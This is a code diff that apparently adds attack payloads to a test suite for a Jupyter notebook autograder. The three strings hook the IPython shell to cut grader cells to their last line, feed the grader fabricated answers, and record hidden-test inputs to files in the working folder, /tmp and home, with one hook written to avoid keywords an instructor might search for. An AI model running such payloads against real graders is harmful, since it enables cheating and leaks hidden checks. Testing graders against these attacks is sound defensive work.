@@ -143,3 +143,56 @@ def cheating_answers(source_nb: dict, patch: bool) -> dict[str, str]:
         lines += [f"{name} = Anything()" for name in names_defined(code)]
         answers[grade_id] = "\n".join(lines) + "\n"
     return answers
+
+
+# The attack that took full automatic marks from a blank notebook when the kernel judged itself: find the
+# IPython shell without naming it (so no word an instructor looks for appears), and add an input
+# transformer that cuts every cell after this one down to its last line (a test cell's last line printed
+# the proof that it had finished).
+CUT_EVERY_CELL = '''
+import gc
+for _shell in gc.get_objects():
+    if type(_shell).__name__ == "ZMQInteractiveShell":
+        _shell.input_transformers_post.append(lambda lines: lines[-1:])
+        break
+'''
+
+# A kernel that lies: whatever the grader asks for, it answers from a table of answers (here, another
+# student's, or the practice figures'), and with 0 where the table has nothing. It gains only what
+# typing a guess gains. {table} is a dict from expression to its JSON answer.
+LIE_ABOUT_EVERY_ANSWER = '''
+import ast as _ast
+_table = {table!r}
+_shell = get_ipython()
+def _answer(code):
+    inner = _ast.literal_eval(code[code.index("probe_json(") + len("probe_json("):code.rindex(", globals()")])
+    return _table.get(inner, '{{"value": 0}}')
+def _lying(expressions):
+    return {{name: {{"status": "ok", "data": {{"text/plain": repr(_answer(code))}}, "metadata": {{}}}}
+            for name, code in expressions.items()}}
+_shell.user_expressions = _lying
+'''
+
+# A spy: records every expression the grader asks for and every cell it runs, and tries every way out it
+# has: printing them (plainly and base64-encoded) as it is asked, writing them to files in its working
+# folder, /tmp and home, and a cell run after it. If any of these reached the autograded notebook,
+# formgrader or feedback, a hidden check's inputs would leak.
+SPY = '''
+import base64 as _b64, os as _os
+_seen = []
+_shell = get_ipython()
+_asked = _shell.user_expressions
+def _spy(expressions):
+    for code in expressions.values():
+        _seen.append(code)
+        print("SPIED", code, _b64.b64encode(code.encode()).decode())
+        for _folder in [_os.getcwd(), "/tmp", _os.path.expanduser("~")]:
+            try:
+                with open(_os.path.join(_folder, "spied.txt"), "a") as _out:
+                    _out.write(code + "\\n")
+            except OSError:
+                pass
+    return _asked(expressions)
+_shell.user_expressions = _spy
+_shell.events.register("post_run_cell", lambda *args: print("SPIED SO FAR", _seen))
+'''
